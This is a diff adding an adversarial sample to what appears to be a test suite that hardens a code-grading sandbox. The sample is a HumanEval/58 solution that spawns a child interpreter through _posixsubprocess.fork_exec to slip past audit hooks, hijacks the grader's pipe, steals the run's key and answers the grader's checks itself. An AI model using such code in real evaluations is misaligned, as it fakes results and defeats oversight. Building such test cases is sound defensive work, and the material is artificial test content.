@@ -35945,3 +35945,125 @@ _a47(
     """,
     "wrong from the 8th call with one word in a process: '' (get_closest_vowel('yogurt') asked eight times answers '' the 8th time, not 'u'); p23 asks no word more than 5 times on /118 on the pinned seed (p22 asked 'easy' 10 times)",
 )
+
+# NEW47_DUP2_CHANNEL_TAP without a thread: the relay is a child interpreter started with
+# _posixsubprocess.fork_exec (no audit event; a child has no audit hook), which hands the key back on a
+# pipe of its own. A fix that refuses the program's threads alone leaves this open.
+_A47_CHILD_RELAY = """
+    import os
+    import sys
+
+    _buf = []
+    _tap = {"key": None, "from": -1}
+
+    _RELAY = '''
+    import os, sys
+    r, out, back = (int(a) for a in sys.argv[1:4])
+    def readn(n):
+        b = b""
+        while len(b) < n:
+            c = os.read(r, n - len(b))
+            if not c:
+                raise SystemExit(0)
+            b += c
+        return b
+    first = True
+    while True:
+        head = readn(4)
+        msg = readn(int.from_bytes(head, "big"))
+        if first:
+            os.write(back, msg[1:17])
+            first = False
+        data = head + msg
+        while data:
+            data = data[os.write(out, data):]
+    '''
+
+
+    def _solve(l1, l2):
+        _buf.clear()  # one answer buffer, refilled by every call
+        _buf.extend(sorted(set(l1) & set(l2)))
+        return _buf
+
+
+    def _readn(fd, n):
+        out = b""
+        while len(out) < n:
+            chunk = bytearray(n - len(out))
+            got = os.readv(fd, [chunk])
+            if not got:
+                return None
+            out += bytes(chunk[:got])
+        return out
+
+
+    def _write_all(fd, data):
+        while data:
+            data = data[os.writev(fd, [data]) :]
+
+
+    def _arm():
+        import _posixsubprocess
+
+        out_fd = int(sys.argv[1])
+        saved = os.dup(out_fd)
+        r, w = os.pipe()
+        kr, kw = os.pipe()
+        py = sys.executable.encode()
+        code = _RELAY.encode()
+        err = os.pipe()
+        _posixsubprocess.fork_exec(
+            [py, b"-I", b"-S", b"-c", code, str(r).encode(), str(saved).encode(), str(kw).encode()],
+            [py], True, tuple(sorted((r, saved, kw))), None, None,
+            -1, -1, -1, -1, -1, -1, err[0], err[1], False, False, -1, None, None, -1, -1, None, True,
+        )
+        os.dup2(w, out_fd)
+        for fd in (w, r, kw, err[1]):
+            os.close(fd)
+        os.set_blocking(kr, False)
+        _tap["from"] = kr
+
+
+    def _own_channel(key, answer):
+        import ast
+
+        out_fd, in_fd = int(sys.argv[1]), int(sys.argv[2])
+        stop = getattr(os, chr(95) + "exit")  # os._exit, as the stub ends
+        while True:
+            msg = b"R" + key + b"o" + repr(answer).encode()
+            _write_all(out_fd, len(msg).to_bytes(4, "big") + msg)
+            head = _readn(in_fd, 4)
+            reply = _readn(in_fd, int.from_bytes(head, "big")) if head else None
+            if not reply or reply[:1] != b"C":
+                stop(0)
+            args = ast.literal_eval(reply[1:].decode())
+            answer = _solve(*(args if type(args) is tuple else (args,)))
+
+
+    def common(l1: list, l2: list):
+        answer = _solve(l1, l2)
+        if sys.platform == "wasi":
+            return answer  # no descriptors, no processes: the buffer alone
+        if _tap["from"] >= 0 and _tap["key"] is None:
+            try:
+                got = os.read(_tap["from"], 16)
+                if len(got) == 16:
+                    _tap["key"] = got
+            except BlockingIOError:
+                pass
+        if _tap["key"] is not None:
+            _own_channel(_tap["key"], answer)
+        if _tap["from"] < 0:
+            try:
+                _arm()
+            except Exception:
+                _tap["from"] = 10**6
+        return answer
+"""
+
+_a47(
+    "a47_child_relay_key_buffer_58",
+    "HumanEval/58",
+    _A47_CHILD_RELAY,
+    "wrong wherever a caller keeps an answer across calls: every call answers with one buffer refilled by every call; in the jail its first call points the stub's out descriptor at a pipe read by a child interpreter (_posixsubprocess.fork_exec, no audit event, no hook in the child) that relays every message to the host and sends back the run's key from the first; from then on the program answers every request itself with the key; in WASM the buffer alone",
+)
